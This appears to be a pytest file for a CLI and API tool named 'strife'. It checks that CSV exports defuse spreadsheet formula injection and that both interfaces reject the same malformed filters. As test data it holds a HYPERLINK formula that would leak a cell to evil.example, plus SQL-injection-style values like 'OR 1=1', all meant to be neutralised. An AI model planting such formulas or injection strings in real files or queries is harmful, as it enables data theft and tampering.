"""What the CLI and the API share at their edges: CSV that a spreadsheet cannot run, and one
check of event filters (a value one refuses, the other refuses too)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from factories import make_actor, make_place
from strife.api import ApiSettings, create_app
from strife.cli import app
from strife.records import CiteInfo
from test_cli import stored_events

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store whose first event carries formulas in its sentence, outlet and actor, at a
    place south and west of Greenwich (negative coordinates)."""
    return stored_events(
        tmp_path_factory.mktemp("hostile") / "s.duckdb",
        2,
        text=FORMULA,
        actor=(make_actor(entity_text="@SUM(1+1)"),),
        event_loc=make_place(lat=-33.45, lon=-70.66),
        cite_info=CiteInfo(url="+http://x", title=None, publication=FORMULA, published=None),
    )


@pytest.fixture(scope="module")
def client(hostile: Path) -> Iterator[TestClient]:
    with TestClient(create_app(ApiSettings(db=hostile))) as test_client:
        yield test_client


def _assert_defused(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    [first] = [row for row in rows if row["id"] == "e0000"]
    assert first["text"] == first["publication"] == "'" + FORMULA
    assert first["actor_text"] == "'@SUM(1+1)" and first["url"] == "'+http://x"
    assert (first["lat"], first["lon"]) == ("-33.45", "-70.66")  # numbers stay numbers
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for name, cell in row.items()
        if name not in ("lat", "lon")
    )


def test_cli_csv_is_defused(hostile: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    events = runner.invoke(app, ["events", "--db", str(hostile), "--format", "csv"])
    assert events.exit_code == 0, events.output
    _assert_defused(events.stdout)
    out = tmp_path / "events.csv"
    export = ["export", "--db", str(hostile), "--format", "csv", "--output", str(out)]
    assert runner.invoke(app, export).exit_code == 0
    _assert_defused(out.read_text(encoding="utf-8"))


def test_api_csv_is_defused(client: TestClient) -> None:
    response = client.get("/api/events", params={"format": "csv"})
    assert response.status_code == 200
    _assert_defused(response.text)


@pytest.mark.parametrize(
    ("name", "value", "accepted"),
    [
        ("event", "ASSAULT", True),
        ("event", "FOO", False),
        ("event", "ASSAULT OR 1=1", False),
        ("country", "AZE", True),
        ("country", "igo", True),
        ("country", "X OR 1=1", False),
        ("country", "UK", False),
        ("country", "UKRA", False),
        ("country", "U2A", False),
        ("country", "AZE\n", False),
    ],
)
def test_cli_and_api_accept_the_same_filters(
    hostile: Path, client: TestClient, name: str, value: str, accepted: bool
) -> None:
    api = client.get("/api/events", params={name: value})
    cli = CliRunner().invoke(app, ["events", "--db", str(hostile), f"--{name}", value])
    assert api.status_code == (200 if accepted else 422)
    assert cli.exit_code == (0 if accepted else 2), cli.output
